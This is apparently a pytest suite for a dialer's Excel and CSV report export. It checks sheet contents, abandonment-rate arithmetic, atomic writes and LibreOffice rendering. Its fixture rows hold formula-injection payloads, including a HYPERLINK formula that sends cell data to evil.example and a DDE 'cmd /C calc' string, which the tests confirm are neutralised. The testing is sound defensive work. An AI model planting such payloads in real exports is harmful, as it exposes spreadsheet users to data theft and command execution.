"""Outcome reports re-read and checked: every sheet against the database, the abandonment
rate against an independent computation, date and percentage cells, formula injection, and
(where LibreOffice is installed) the workbook opened by a real spreadsheet program."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
import pytest

from dialer.context import build_context
from dialer.daemon.runner import run_virtual_until_done
from dialer.domain.campaigns import Campaign, CampaignSpec
from dialer.domain.clock import VirtualClock
from dialer.domain.results import CallResult
from dialer.importer import ImportOptions, import_file
from dialer.reports.export import ExportResult, export, period_bounds
from dialer.reports.files import write_atomically
from dialer.reports.safety import is_dangerous
from dialer.settings import load_settings
from dialer.sim.callcentre import CallModel
from dialer.store.repository import SqlStore
from dialer.telephony.simulated import SimulatedTelephony
from tests.conftest import T0
from tests.report_history import add_attempts, add_records, attempt

SHEETS = ["Summary", "Records", "Attempts", "Abandonment", "Rejects"]
HEADER = ["recordHandle", "phoneNumber", "first_name", "account", "notes", "alt_phone", "balance", "=cmd"]
ROWS = [
    [
        "R-1",
        "(212) 555-0101",
        "Zoë",
        "000123",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+12125550199",
        "-42.50",
        "x",
    ],
    ["R-2", "212-555-0102", "José", "000124", "-2+3+cmd|' /C calc'!A0", "", "12", "=1+2"],
    ["R-3", "212.555.0103", "Ann", "000125", "@SUM(A1)", "", "", ""],
    ["R-4", "1-212-555-0104", "Bob", "000126", "\tindented", "", "", ""],
    ["R-5", "(212) 555-0105", "Chloé", "_x0041_", "line one\nline two", "", "", "+"],
    ["R-6", "(212) 555-0106", "Dee", "000128", "\rcarriage", "", "", ""],
    ["R-7", "555", "Short", "000129", "", "", "", ""],  # rejected: invalid phone
    ["R-8", "", "=Nobody", "000130", "", "", "", ""],  # rejected: missing phone
]
USER_KEYS = HEADER[2:]
LIVE = {"ANSWER", "WRONG_PARTY", "WRONG_NUMBER", "ABANDONED", "DROPPED", "SILENCE"}  # outbound-domain.md §2
ABANDONS = {"ABANDONED", "DROPPED"}


def unescape(value: Any) -> Any:
    """openpyxl leaves OOXML's ``_xHHHH_`` escapes in inline strings; Excel and LibreOffice decode them."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


@dataclass
class Dialed:
    store: SqlStore
    campaign: Campaign
    clock: VirtualClock
    occupancy: float | None


@pytest.fixture
def dialed(sqlite_store: SqlStore, tmp_path: Path) -> Dialed:
    """A campaign imported from a file with awkward user data, dialed to the end in virtual time."""
    store = sqlite_store
    clock = VirtualClock(T0)
    campaign = store.create_campaign(
        CampaignSpec(name="spring", flow_id="f", caller_ids=("+12125550100",), agents=2, max_attempts=3), now=T0
    )
    source = tmp_path / "list.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(ROWS)
    report = import_file(store, campaign, source, ImportOptions(), now=T0)
    assert report.imported == 6 and report.rejected == 2
    telephony = SimulatedTelephony(agents_for=lambda name: 2, model=CallModel(hit_rate=0.5), seed=3)
    ctx = build_context(load_settings(), clock=clock, store=store, telephony=telephony)
    assert run_virtual_until_done(ctx, clock).done
    stats = telephony.centre_stats("spring", now=clock.now())
    return Dialed(store=store, campaign=store.get_campaign("spring"), clock=clock, occupancy=stats and stats.occupancy)


def write_report(d: Dialed, path: Path, **options: Any) -> ExportResult:
    return export(d.store, d.campaign, path, now=d.clock.now(), occupancy=d.occupancy, **options)


def rows_of(book: Any, name: str) -> tuple[list[str], list[dict[str, Any]]]:
    values = list(book[name].iter_rows(values_only=True))
    header = list(values[0])
    return header, [dict(zip(header, (unescape(v) for v in row), strict=True)) for row in values[1:]]


def summary_of(book: Any) -> dict[str, Any]:
    out = {}
    for row in book["Summary"].iter_rows(min_row=2, max_col=2, values_only=True):
        if row[0] is None:
            break
        out[row[0]] = row[1]
    return out


# ---------------------------------------------------------------------- the workbook
def test_every_sheet_rereads_with_the_database_counts(dialed: Dialed, tmp_path: Path) -> None:
    path = tmp_path / "out" / "spring.xlsx"
    result = write_report(dialed, path)
    store, c = dialed.store, dialed.campaign
    attempts = list(store.iter_attempts(c.id))
    records = {r.handle: r for r in store.iter_records(c.id)}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == SHEETS

    header, rec_rows = rows_of(book, "Records")
    assert header[:9] == [
        "record_handle",
        "phone_number",
        "caller_id",
        "status",
        "attempts",
        "last_outcome",
        "was_missed",
        "last_attempt_at",
        "next_attempt_at",
    ]
    assert header[9:] == USER_KEYS  # original names, file order
    assert len(rec_rows) == sum(store.count_records(c.id).values()) == len(records) == result.sheets["Records"] == 6
    tz = ZoneInfo(c.zone)
    for row in rec_rows:
        record = records[row["record_handle"]]
        assert row["status"] == record.status.value and row["attempts"] == record.attempts
        assert row["phone_number"] == record.phone and row["caller_id"] == "+12125550100"
        assert row["last_attempt_at"] == record.last_attempt_at.astimezone(tz).replace(tzinfo=None, microsecond=0)  # type: ignore[union-attr]
        assert row["next_attempt_at"] is None  # every record is final
        assert row["was_missed"] is record.last_was_missed

    header, att_rows = rows_of(book, "Attempts")
    assert f"placed_at ({c.zone})" in header and f"ended_at ({c.zone})" in header
    assert len(att_rows) == len(attempts) == result.sheets["Attempts"]
    by_id = {a.id: a for a in attempts}
    assert {row["attempt_id"] for row in att_rows} == set(by_id)
    for row in att_rows:
        a = by_id[row["attempt_id"]]
        placed = row[f"placed_at ({c.zone})"]
        assert isinstance(placed, datetime)  # a real date-time cell
        assert placed == (a.placed_at or a.created_at).astimezone(tz).replace(tzinfo=None, microsecond=0)
        assert row["outcome"] == a.outcome.value and row["was_missed"] is a.was_missed  # type: ignore[union-attr]
        assert row["number_dialed"] == a.number_dialed and row["backend"] == "simulated"
    assert [r[f"placed_at ({c.zone})"] for r in att_rows] == sorted(r[f"placed_at ({c.zone})"] for r in att_rows)

    summary = summary_of(book)
    ended = [a for a in attempts if a.outcome is not None]
    live = sum(a.outcome.value in LIVE for a in ended)  # type: ignore[union-attr]
    assert summary["records"] == 6 and summary["attempts"] == len(attempts)
    assert summary["live answers"] == live
    assert summary["abandoned (missed)"] == sum(a.outcome.value in ABANDONS for a in ended)  # type: ignore[union-attr]
    assert summary["time zone"] == "America/New_York"
    assert summary["agent occupancy"] == pytest.approx(dialed.occupancy)

    _, rejects = rows_of(book, "Rejects")
    # Rows as a spreadsheet numbers them (header = 1), even though each hold a
    # line break (LF, CR) inside a quoted field.
    assert [(r["line"], r["reason"]) for r in rejects] == [(8, "invalid_phone"), (9, "missing_phone")]
    assert rejects[1]["original_row"] == "R-8,,=Nobody,000130,,,,"  # the row as it was in the file
    _, days = rows_of(book, "Abandonment")
    assert sum(d["attempts"] for d in days) == len(attempts)

    for name in SHEETS:
        ws = book[name]
        assert ws["A1"].font.b, f"{name}: bold header"
        assert ws.freeze_panes == "A2", f"{name}: frozen header row"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), f"{name}: autofilter"
        assert (ws.column_dimensions["A"].width or 0) >= 10, f"{name}: column widths"
    assert book["Attempts"]["G2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert book["Abandonment"]["A2"].number_format == "yyyy-mm-dd"
    rates = [c for c in book["Summary"]["B"] if c.number_format == "0.00%"]
    assert len(rates) >= 5 and all(isinstance(c.value, float | int) for c in rates if c.value is not None)
    with zipfile.ZipFile(path) as archive:
        chart = archive.read("xl/charts/chart1.xml").decode()
    assert "Summary" in chart and "<c:barChart>" in chart and "<c:lineChart>" in chart  # a native chart


def test_formula_injection_is_neutralised_and_user_data_kept_exact(dialed: Dialed, tmp_path: Path) -> None:
    path = tmp_path / "spring.xlsx"
    write_report(dialed, path)
    book = openpyxl.load_workbook(path)
    ws = book["Records"]
    header = [c.value for c in ws[1]]
    assert ws.cell(1, header.index("=cmd") + 1).quotePrefix  # even a column name
    originals = {row[0]: dict(zip(USER_KEYS, row[2:], strict=True)) for row in ROWS[:6]}
    for row in ws.iter_rows(min_row=2):
        handle = row[0].value
        for key in USER_KEYS:
            cell = row[header.index(key)]
            expected = originals[handle][key]
            if expected == "":
                continue
            assert cell.data_type == "s", (handle, key)  # text, never a formula or a number
            assert unescape(cell.value) == expected, (handle, key)  # byte-exact
            assert bool(cell.quotePrefix) is is_dangerous(expected), (handle, key)
        phone = row[1]
        assert phone.data_type == "s" and phone.value.startswith("+1") and phone.quotePrefix
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), f"{name} holds a formula"

    records_csv = write_report(dialed, tmp_path / "records.csv").path
    raw = records_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    assert '"Zoë"'.encode() in raw and '"Chloé"'.encode() in raw  # accents byte-exact, text quoted
    with records_csv.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0][9:] == ["first_name", "account", "notes", "alt_phone", "balance", "'=cmd"]
    got = {row[0]: dict(zip(table[0][9:], row[9:], strict=True)) for row in table[1:]}
    assert got["R-1"]["notes"] == "'" + originals["R-1"]["notes"]
    assert got["R-2"]["notes"] == "'-2+3+cmd|' /C calc'!A0" and got["R-2"]["'=cmd"] == "'=1+2"
    assert got["R-3"]["notes"] == "'@SUM(A1)"
    assert got["R-4"]["notes"] == "'\tindented" and got["R-6"]["notes"] == "'\rcarriage"
    assert got["R-5"]["notes"] == "line one\nline two" and got["R-5"]["account"] == "_x0041_"
    assert got["R-5"]["'=cmd"] == "'+"
    assert got["R-1"]["alt_phone"] == "+12125550199" and got["R-1"]["balance"] == "-42.50"  # plain numbers kept
    assert got["R-1"]["account"] == "000123" and all(row[1].startswith("+1212555") for row in table[1:])

    attempts_csv = write_report(dialed, tmp_path / "attempts.csv", sheet="attempts")
    frame = pd.read_csv(attempts_csv.path, encoding="utf-8-sig", dtype=str)
    assert len(frame) == len(list(dialed.store.iter_attempts(dialed.campaign.id))) == attempts_csv.sheets["Attempts"]
    assert "placed_at (America/New_York)" in frame.columns
    assert frame["placed_at (America/New_York)"].str.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d").all()


# ---------------------------------------------------------------------- abandonment
def test_abandonment_matches_an_independent_computation(sqlite_store: SqlStore, tmp_path: Path) -> None:
    store = sqlite_store
    zone = "America/Chicago"
    tz = ZoneInfo(zone)
    camp = store.create_campaign(CampaignSpec(name="overdial", flow_id="f", timezone=zone), now=T0)
    rids = add_records(store, camp, 50, now=T0)
    history = []
    n = 0
    first_day = date(2026, 2, 5)
    for k in range(45):  # 5 Feb – 21 Mar 2026, across the DST change of 8 March
        day = first_day + timedelta(days=k)
        plan = (
            [CallResult.ANSWER] * (20 + k % 17)
            + [CallResult.ABANDONED] * (k % 4)
            + [CallResult.DROPPED] * (k % 7 == 3)
            + [CallResult.NO_ANSWER] * 9
            + [CallResult.ANSWERING_MACHINE] * 4
            + [CallResult.SILENCE] * (k % 3)
        )
        for i, outcome in enumerate(plan):
            # Spread over the local day, including its very first and very last second.
            minute = [0, 24 * 60 - 1][i] if i < 2 else 8 * 60 + (i * 37) % (12 * 60)
            local = datetime.combine(day, datetime.min.time(), tz) + timedelta(minutes=minute)
            if i == 1:
                local += timedelta(seconds=59)
            history.append(attempt(camp, rids[n % 50], local.astimezone(UTC), outcome))
            n += 1
    history.append(attempt(camp, rids[0], datetime(2026, 3, 21, 20, tzinfo=UTC), None))  # still ringing
    add_attempts(store, history)

    since, until = period_bounds(zone, date(2026, 3, 1), date(2026, 3, 21), now=T0)
    path = tmp_path / "overdial.xlsx"
    export(store, camp, path, now=datetime(2026, 3, 25, tzinfo=UTC), since=since, until=until)

    # The independent computation: pandas over the attempts as written, local days by zoneinfo.
    frame = pd.DataFrame(
        {
            "at": [a.created_at for a in history],
            "outcome": [a.outcome.value if a.outcome else None for a in history],
        }
    )
    frame["day"] = frame["at"].map(lambda t: t.astimezone(tz).date())
    frame["live"] = frame["outcome"].isin(LIVE)
    frame["abandoned"] = frame["outcome"].isin(ABANDONS)
    daily = frame.groupby("day")[["live", "abandoned"]].sum()
    book = openpyxl.load_workbook(path)
    _, rows = rows_of(book, "Abandonment")
    assert [r["day"].date() for r in rows] == [date(2026, 3, 1) + timedelta(days=k) for k in range(21)]
    flagged = 0
    for row in rows:
        day = row["day"].date()
        window = daily.loc[[d for d in daily.index if day - timedelta(days=29) <= d <= day]]
        live, abandoned = int(daily.loc[day, "live"]), int(daily.loc[day, "abandoned"])
        live30, abandoned30 = int(window["live"].sum()), int(window["abandoned"].sum())
        assert (row["live_answers"], row["abandoned"]) == (live, abandoned), day
        assert (row["live_answers_30d"], row["abandoned_30d"]) == (live30, abandoned30), day
        assert row["abandon_rate"] == pytest.approx(abandoned / live)
        assert row["abandon_rate_30d"] == pytest.approx(abandoned30 / live30)
        assert row["day_over_cap"] is (abandoned / live > 0.03)
        assert row["rolling_30d_over_cap"] is (abandoned30 / live30 > 0.03)
        flagged += row["day_over_cap"]
    assert 0 < flagged < len(rows), "the data must have days on both sides of the cap"

    summary = summary_of(book)
    in_period = frame[(frame["at"] >= since) & (frame["at"] < until)]
    last30 = frame[(frame["at"] >= until - timedelta(days=30)) & (frame["at"] < until)]
    last24 = frame[(frame["at"] >= until - timedelta(hours=24)) & (frame["at"] < until)]
    assert summary["attempts"] == len(in_period) and summary["attempts in flight"] == 1
    assert summary["abandon rate, period"] == pytest.approx(in_period["abandoned"].sum() / in_period["live"].sum())
    assert summary["abandon rate, rolling 30 days"] == pytest.approx(last30["abandoned"].sum() / last30["live"].sum())
    assert summary["abandon rate, rolling 24 hours"] == pytest.approx(last24["abandoned"].sum() / last24["live"].sum())
    assert summary["days over the cap"] == flagged
    assert book["Summary"]["B1"].value == "value"


def test_a_campaign_without_calls_still_reports(sqlite_store: SqlStore, tmp_path: Path) -> None:
    camp = sqlite_store.create_campaign(CampaignSpec(name="quiet", flow_id="f"), now=T0)
    add_records(sqlite_store, camp, 2, now=T0)
    result = export(sqlite_store, camp, tmp_path / "quiet.xlsx", now=T0)
    assert result.sheets == {
        "Summary": result.sheets["Summary"],
        "Records": 2,
        "Attempts": 0,
        "Abandonment": 0,
        "Rejects": 0,
    }
    summary = summary_of(openpyxl.load_workbook(tmp_path / "quiet.xlsx"))
    assert summary["attempts"] == 0 and summary["abandon rate, period"] is None
    assert summary["agent occupancy"] == "unknown"


# ---------------------------------------------------------------------- files
def test_reports_appear_whole_and_scheduled_ones_never_replace_a_file(dialed: Dialed, tmp_path: Path) -> None:
    folder = tmp_path / "reports"
    target = folder / "daily.xlsx"
    first = write_report(dialed, target, replace=False)
    before = target.read_bytes()
    second = write_report(dialed, target, replace=False)
    assert first.path == target and second.path == folder / "daily-2.xlsx"
    assert target.read_bytes() == before  # the file someone may have open is untouched
    replaced = write_report(dialed, target)  # an explicit --out replaces, atomically
    assert replaced.path == target
    assert sorted(p.name for p in folder.iterdir()) == ["daily-2.xlsx", "daily.xlsx"]  # no temporary left

    def fail(path: Path) -> None:
        path.write_text("half a report")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        write_atomically(folder / "broken.xlsx", fail, replace=False)
    assert sorted(p.name for p in folder.iterdir()) == ["daily-2.xlsx", "daily.xlsx"]


# ---------------------------------------------------------------------- LibreOffice
@pytest.fixture(scope="session")
def soffice() -> Iterator[str]:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("LibreOffice (soffice) is not installed; on Debian: apt-get install libreoffice-calc-nogui")
    yield found


def test_libreoffice_opens_the_workbook(dialed: Dialed, tmp_path: Path, soffice: str) -> None:
    path = tmp_path / "spring.xlsx"
    write_report(dialed, path)
    out = tmp_path / "lo"
    # Every sheet to its own CSV (the last filter option, -1), cell contents as LibreOffice holds them.
    command = [
        soffice,
        f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
        "--headless",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        "--outdir",
        str(out),
        str(path),
    ]
    run = subprocess.run(
        command, capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)}
    )
    assert run.returncode == 0, run.stderr
    sheets = {p.stem.removeprefix("spring-"): p for p in out.glob("*.csv")}
    assert set(sheets) == set(SHEETS), run.stdout + run.stderr

    def read(name: str) -> list[list[str]]:
        with sheets[name].open(encoding="utf-8", newline="") as handle:
            return list(csv.reader(handle))

    records = read("Records")
    attempts = read("Attempts")
    assert len(records) - 1 == 6
    assert len(attempts) - 1 == len(list(dialed.store.iter_attempts(dialed.campaign.id)))
    notes = {row[0]: row[records[0].index("notes")] for row in records[1:]}
    # LibreOffice kept the text: had it read a formula, the CSV would hold its result.
    assert notes["R-1"] == ROWS[0][4] and notes["R-3"] == "@SUM(A1)"
    assert {row[0]: row[records[0].index("=cmd")] for row in records[1:]}["R-2"] == "=1+2"
    assert {row[0]: row[records[0].index("account")] for row in records[1:]}["R-5"] == "_x0041_"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", attempts[1][6])  # a formatted date-time
    assert read("Summary")[0][:3] == ["measure", "value", "note"]


def test_a_sheet_too_big_for_excel_is_refused_before_writing(
    dialed: Dialed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dialer.errors import DialerError
    from dialer.reports import export as export_module

    monkeypatch.setattr(export_module, "MAX_ROWS", 5)  # the campaign has 6 records
    with pytest.raises(DialerError, match=r"Records sheet would have 6 rows; Excel holds 5 per sheet.*--out PATH.csv"):
        write_report(dialed, tmp_path / "big.xlsx")
    assert not any(tmp_path.glob("*.xlsx")) and not any(tmp_path.glob(".*"))
    assert write_report(dialed, tmp_path / "big.csv").sheets == {"Records": 6}  # CSV has no such limit


def test_the_row_writer_writes_what_xlsxwriter_writes(tmp_path: Path) -> None:
    """The fast row path and xlsxwriter's public API give byte-identical workbooks."""
    from dialer.reports.sheets import Column
    from dialer.reports.workbook import WorkbookWriter

    columns = [
        Column("text", free=True),
        Column("int", "int"),
        Column("float", "float"),
        Column("bool", "bool"),
        Column("at", "datetime"),
        Column("=header", free=True),
        Column("rate", "percent"),
    ]
    rows = [
        ("a", 1, 2.5, True, "2026-03-08 01:59:59", "=1+2", 0.031),
        (" lead", None, None, False, None, "", None),
        ("trail ", 0, 0.0, None, "2026-12-31 23:59:59", "_x0041_", 0),
        ("ctl\x01\x0b\r\tx\ufffe", 10**12, 1 / 3, True, None, "&<>\"'", None),
        ("😀" * 20_000, None, None, None, None, "x" * 40_000, None),  # over Excel's 32,767 UTF-16 units
        (None, None, None, None, None, None, None),
        ("\n", -5, -0.5, False, "2026-01-01 00:00:00", "+12125550100", 1.0),
    ]
    sheets = {}
    for fast in (True, False):
        book = WorkbookWriter(tmp_path / f"{fast}.xlsx", fast=fast)
        assert book.write_table("Records", columns, rows) == len(rows)
        book.close()
        assert book.truncated == 2
        with zipfile.ZipFile(tmp_path / f"{fast}.xlsx") as archive:
            sheets[fast] = {n: archive.read(n) for n in archive.namelist() if not n.startswith("docProps/")}
    assert sheets[True] == sheets[False]
    cells = openpyxl.load_workbook(tmp_path / "True.xlsx")["Records"]
    assert cells["A6"].value == "😀" * 16_383 and len(cells["F6"].value) == 32_767
    assert cells["F2"].quotePrefix and cells["F2"].value == "=1+2" and cells["E2"].is_date
